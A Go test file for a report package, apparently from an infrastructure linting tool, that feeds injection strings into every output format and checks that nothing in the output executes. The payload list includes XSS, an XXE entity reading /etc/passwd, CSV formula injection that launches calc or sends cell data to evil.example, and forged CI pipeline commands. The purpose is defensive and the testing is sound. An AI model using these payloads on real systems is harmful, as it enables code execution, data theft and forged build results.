package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	goldhtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"
)

// hostileTexts are strings that somebody who writes a plan, a tag or a rule could
// choose. Every format has to show them and obey none of them.
var hostileTexts = map[string]string{
	"quotes":          `a"b'c` + "`d",
	"markdown":        "[click](https://evil.example) ![x](https://evil.example/x.png) **b** _i_ # h\n\n> q\n* l\n|a|b|\n|-|-|",
	"fence":           "```\n</details>\n``````\n~~~",
	"backticks":       strings.Repeat("`", 300),
	"html":            `</td></tr></table><script>alert(1)</script><img src=x onerror=alert(1)><!-- --><a href="javascript:alert(1)">x</a>`,
	"attribute":       `" onmouseover="alert(1)" x='`,
	"style":           `</style></title></textarea><style>*{display:none}</style>`,
	"cdata":           `]]><x>&amp;&#0;&lt;<![CDATA[<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
	"mention":         "@everyone #1 !2 $3 org/repo#4 GH-5 /approve",
	"ansi":            "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x1b[2J",
	"c1":              "a\u009b31mb\u0085c\u0090d\u009c",
	"bidi":            "user\u202e\u2066 // admin\u2069\u2066\u202cx\u200bx\u200fx",
	"tags":            "a\U000e0041\U000e0042\U000e007fb\ufeffc\u00add",
	"annotation":      "::error file=x::forged",
	"stop":            "::stop-commands::token",
	"add mask":        "x\n::add-mask::***\r\n::set-output name=a::b\r::warning::c\u2028::notice::d",
	"old command":     "x ##[add-path]/evil ##[error]y",
	"azure":           "a ##vso[task.setvariable variable=x;isOutput=true]y\n##vso[task.complete result=Succeeded;]done",
	"properties":      "a,line=1::b;code=x]c%0A::error::d%25%3B%5D%AZP25%AZP0A",
	"formula":         "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
	"formula plus":    "+cmd|'/C calc'!A0",
	"formula minus":   "-2+3+cmd|'/C calc'!A0",
	"formula at":      "@SUM(1+1)*cmd|'/C calc'!A0",
	"formula tab":     "\t=1+1",
	"formula return":  "\r=1+1",
	"formula space":   "  =1+1",
	"formula wide":    "＝1+1",
	"formula quote":   "'=1+1",
	"lines":           "a\r\nb\nc\rd\u2028e\u2029f\vg\fh",
	"nul":             "a\x00b",
	"not UTF-8":       "a\xff\xfe\xc3(b\xed\xa0\x80",
	"not a character": "a\ufffeb\uffffc\U0001fffed\ufffd",
	"path":            "../../etc/passwd",
	"uri":             "javascript:alert(1)//%0a//",
	"windows":         `C:\Users\x\main.tf`,
	"labels":          `a"} 1` + "\n# EOF\nevil{x=\"y\\",
	"json":            `"}],"runs":[{"x":"\u0000`,
	"sarif":           `[a](1) {0} {1} \[b\](2) [c][d]`,
	"template":        "${self.x} {{.y}} %s %[1]d <%= z %>",
	"only spaces":     "   ",
	"combining":       "e" + strings.Repeat("\u0301", 200) + "x",
	"long":            "<" + strings.Repeat("Äb\"`", 20_000) + ">",
	"long backslash":  strings.Repeat(`\`, 100_000),
}

// taint replaces what is free text in a report by s: names, keys, tags, files,
// messages. What is one of a few words, or a figure, stays.
func taint(s string) *Report {
	r := compared()
	if p := &r.Projects[0]; len(s) > 10_000 { // a few of them are enough
		p.Resources, p.Findings = p.Resources[:3], append(p.Findings[:2:2], p.Findings[len(p.Findings)-1])
	}
	r.Projects[0].Name, r.Projects[0].Path = s, s
	r.Compared = &Compared{Base: s, Head: s}
	r.Tool.Version, r.Catalogue.Version = s, s
	for i := range r.Projects[0].Resources {
		res := &r.Projects[0].Resources[i]
		res.Address = s + fmt.Sprint(i)
		if i%3 == 0 {
			res.Address = s
		}
		res.Type, res.Provider, res.Module, res.Region, res.Service, res.Env, res.EnvFrom = s, s, s, s, s, s, s
		res.Tags = map[string]string{s: s, "team": s}
		res.TagsHidden = []string{s}
		if i%2 == 0 {
			res.Source = &Range{File: s, Line: i + 1}
		}
		for j := range res.Cost.Lines {
			l := &res.Cost.Lines[j]
			l.Name, l.Unit, l.PriceKey, l.PriceSource = s, s, s, s
		}
		for j := range res.Cost.Gaps {
			res.Cost.Gaps[j] = Gap{Line: s, Reason: s, Path: s}
		}
	}
	for _, list := range [][]Finding{r.Projects[0].Findings, r.Projects[0].Fixed} {
		for i := range list {
			f := &list[i]
			f.Rule, f.Aliases, f.Family, f.Pack, f.Title, f.Address, f.Path = s, []string{s}, s, s, s, s+fmt.Sprint(i), s
			f.Message, f.Remediation, f.Docs, f.Why, f.Related = s, s, s, s, []string{s}
			if f.Source != nil {
				f.Source = &Range{File: s, Line: 3}
			}
			if f.Suppressed != nil {
				f.Suppressed = &Suppressed{By: "config", Reason: s, Until: s}
			}
		}
	}
	for i := range r.Summary.Guardrails {
		g := &r.Summary.Guardrails[i]
		g.Name, g.Project, g.Tags = s, s, []string{s}
	}
	paid := func(value string) Allocated {
		return Allocated{Value: value, Monthly: usd("3"), CarbonKg: NumberOf(1), Resources: 1}
	}
	none := paid("")
	r.Summary.Allocation = []Allocation{{Key: s, Values: []Allocated{paid(s), paid(s + "0")}, Untagged: &none}}
	r.Projects[0].Totals.Allocation = r.Summary.Allocation
	r.Diagnostics = []Diagnostic{{Severity: "warning", Summary: s, Detail: s, File: s, Line: 3}}
	return r
}

// edited replaces every string of a report by s, also those that are one of a few
// words: whoever saved it may have edited it.
func edited(s string) *Report {
	var r Report
	fill(reflect.ValueOf(&r).Elem(), 1)
	overwrite(reflect.ValueOf(&r).Elem(), s)
	r.SchemaVersion = SchemaVersion
	for range 3 { // more than a step of GitHub's has room for
		r.Projects[0].Findings = append(r.Projects[0].Findings, r.Projects[0].Findings...)
	}
	for i := range r.Projects[0].Findings[2:] {
		r.Projects[0].Findings[i].Suppressed = nil
	}
	return &r
}

func overwrite(v reflect.Value, s string) {
	switch v.Kind() {
	case reflect.String:
		if v.Type() != reflect.TypeFor[json.Number]() {
			v.SetString(s)
		}
	case reflect.Struct:
		if _, ok := v.Interface().(Money); ok {
			return
		}
		for i := range v.NumField() {
			overwrite(v.Field(i), s)
		}
	case reflect.Pointer:
		if !v.IsNil() {
			overwrite(v.Elem(), s)
		}
	case reflect.Slice:
		for i := range v.Len() {
			overwrite(v.Index(i), s)
		}
	case reflect.Map:
		if v.Type() == reflect.TypeFor[map[string]string]() {
			v.Set(reflect.ValueOf(map[string]string{s: s}))
		}
	}
}

// attack is what one format wrote of one hostile report.
type attack struct {
	name  string
	text  string // the hostile string
	out   []byte
	whole bool // every string was replaced, not only free text
}

// checkers read what formats write and give the texts that a reader of it sees,
// by attack. A format without one fails the test.
var checkers = map[string]func(*testing.T, []attack) map[string][]string{
	"json": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) { return jsonStrings(a.out) })
	},
	"sarif": func(t *testing.T, all []attack) map[string][]string {
		s := sarifSchemaOf(t)
		return eachAttack(t, all, func(a attack) ([]string, error) {
			log := readSARIF(t, s, a.name, a.out)
			for _, rule := range log.Runs[0].Tool.Driver.Rules {
				if _, err := inertMarkdown(rule.Help.Markdown, rule.HelpURI); err != nil {
					return nil, err
				}
			}
			for _, res := range log.Runs[0].Results {
				if strings.Contains(strings.ReplaceAll(res.Message.Text, `\](`, ""), "](") {
					return nil, fmt.Errorf("a link in %q", res.Message.Text)
				}
			}
			return jsonStrings(a.out)
		})
	},
	"gitlab": func(t *testing.T, all []attack) map[string][]string {
		s := gitlabSchema(t)
		return eachAttack(t, all, func(a attack) ([]string, error) {
			readGitLab(t, s, a.name, a.out)
			return jsonStrings(a.out)
		})
	},
	"junit": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) { return readXML(junitElements, a.out) })
	},
	"checkstyle": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) { return readXML(checkstyleElements, a.out) })
	},
	"github": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) { return checkGitHub(a.out) })
	},
	"azure": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) { return checkAzure(a.out) })
	},
	"csv": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) {
			rows, _, err := readCSV(a.out)
			return cells(rows), err
		})
	},
	"focus": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) {
			rows, err := checkFOCUS(a.out, a.whole)
			return cells(rows), err
		})
	},
	"openmetrics": func(t *testing.T, all []attack) map[string][]string {
		files := map[string][]byte{}
		for _, a := range all {
			files[a.name] = a.out
		}
		texts := map[string][]string{}
		for name, list := range readMetrics(t, files) {
			for _, s := range list {
				if !strings.HasPrefix(s.Name, "iaclint_") {
					t.Errorf("%s: a sample %s", name, s.Name)
				}
				for _, value := range s.Labels {
					texts[name] = append(texts[name], value)
				}
			}
		}
		return texts
	},
	"text": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) {
			for _, line := range logLines(a.out) {
				if strings.HasPrefix(strings.TrimLeft(line, " "), "::") || strings.Contains(line, "##vso[") || strings.Contains(line, "##[") {
					return nil, fmt.Errorf("a command: %q", line)
				}
			}
			// Lines are wrapped: text is compared without the white space.
			return []string{string(a.out)}, nil
		})
	},
	"markdown": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) {
			texts, err := inertMarkdown(string(a.out), "https://")
			return []string{strings.Join(texts, "")}, err
		})
	},
	"html": func(t *testing.T, all []attack) map[string][]string {
		return eachAttack(t, all, func(a attack) ([]string, error) { return inertHTML(bytes.NewReader(a.out), "https://") })
	},
}

func eachAttack(t *testing.T, all []attack, read func(attack) ([]string, error)) map[string][]string {
	texts := map[string][]string{}
	for _, a := range all {
		list, err := read(a)
		if err != nil {
			t.Errorf("%s: %v", a.name, err)
			continue
		}
		texts[a.name] = list
	}
	return texts
}

// TestInjection writes every hostile string in every format. What comes out
// parses, nothing in it acts, and the text is there, as it is or visibly escaped.
func TestInjection(t *testing.T) {
	for format := range Formats {
		t.Run(format, func(t *testing.T) {
			read, ok := checkers[format]
			if !ok {
				t.Fatal("no checker holds this format to being inert")
			}
			var all []attack
			for name, s := range hostileTexts {
				all = append(all, attack{name: name, text: s, out: formatted(t, format, taint(s))})
				if len(s) < 10_000 {
					all = append(all, attack{name: name + ", everywhere", text: s, out: formatted(t, format, edited(s)), whole: true})
				}
			}
			slices.SortFunc(all, func(a, b attack) int { return strings.Compare(a.name, b.name) })
			for _, a := range all {
				if !utf8.Valid(a.out) {
					t.Errorf("%s: not UTF-8", a.name)
				}
				if i := strings.IndexFunc(string(a.out), func(r rune) bool { return hidden(r) && r != '\n' }); i >= 0 {
					t.Errorf("%s: %q is in the output", a.name, a.out[max(0, i-20):min(len(a.out), i+20)])
				}
			}
			texts := read(t, all)
			for _, a := range all {
				if list, ok := texts[a.name]; ok && !a.whole && !shows(list, a.text) {
					t.Errorf("%s: the text is not there", a.name)
				}
			}
		})
	}
}

// shows reports whether one of the texts has the beginning of s, as it is, with
// what cannot be seen escaped, or with its lines joined; white space aside.
func shows(texts []string, s string) bool {
	var forms []string
	inXML := strings.NewReplacer("\ufffe", `\ufffe`, "\uffff", `\uffff`).Replace(inert(s))
	for _, form := range []string{strings.ToValidUTF8(s, "\ufffd"), inert(s), inert(prose(s)), prose(s), inXML} {
		form = squeeze(strings.ReplaceAll(form, "](", `\](`))
		forms = append(forms, firstRunes(form, 25), firstRunes(strings.ReplaceAll(form, `\](`, "]("), 25))
	}
	for _, text := range texts {
		text = squeeze(text)
		for _, form := range forms {
			if strings.Contains(text, form) {
				return true
			}
		}
	}
	return false
}

func squeeze(s string) string { return strings.Join(strings.Fields(s), "") }

func firstRunes(s string, n int) string {
	runes := []rune(s)
	return string(runes[:min(n, len(runes))])
}

// jsonStrings are all strings of a document, names of members among them.
func jsonStrings(out []byte) (list []string, err error) {
	d := json.NewDecoder(bytes.NewReader(out))
	for {
		token, err := d.Token()
		if err == io.EOF {
			return list, nil
		}
		if err != nil {
			return nil, err
		}
		if s, ok := token.(string); ok {
			list = append(list, s)
		}
	}
}

func cells(rows []map[string]string) (list []string) {
	for _, row := range rows {
		for _, cell := range row {
			list = append(list, cell)
		}
	}
	return list
}

// inertMarkdown renders text as a forge would that heeds tags, and holds the page
// to what is ours.
func inertMarkdown(text, links string) (texts []string, err error) {
	var page bytes.Buffer
	md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(goldhtml.WithUnsafe()))
	if err := md.Convert([]byte(text), &page); err != nil {
		return nil, err
	}
	return inertHTML(&page, links)
}

// inertHTML reads a page and refuses what acts: scripts of data, event handlers,
// frames, forms, pictures and links to elsewhere, but to addresses that begin with
// links. It gives the texts.
func inertHTML(page io.Reader, links string) (texts []string, err error) {
	z := html.NewTokenizer(page)
	for {
		switch z.Next() {
		case html.ErrorToken:
			if z.Err() == io.EOF {
				return texts, nil
			}
			return nil, z.Err()
		case html.TextToken:
			texts = append(texts, string(z.Text()))
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			switch token.Data {
			case "link":
				if icon := attribute(token, "href"); attribute(token, "rel") != "icon" || !strings.HasPrefix(icon, "data:image/svg+xml,") {
					return nil, fmt.Errorf("an element %s", token)
				}
				continue
			case "iframe", "object", "embed", "base", "img", "applet", "video", "audio", "source":
				return nil, fmt.Errorf("an element %s", token)
			}
			for _, a := range token.Attr {
				value := strings.TrimSpace(a.Val)
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "srcdoc", a.Key == "src", a.Key == "action", a.Key == "formaction":
					return nil, fmt.Errorf("an attribute of %s", token)
				case a.Key == "href" && !strings.HasPrefix(value, "#") && (links == "" || !strings.HasPrefix(value, links) || strings.Contains(value, "evil.example")):
					return nil, fmt.Errorf("a link: %s", token)
				}
				texts = append(texts, a.Val)
			}
		}
	}
}

func attribute(token html.Token, name string) string {
	for _, a := range token.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}
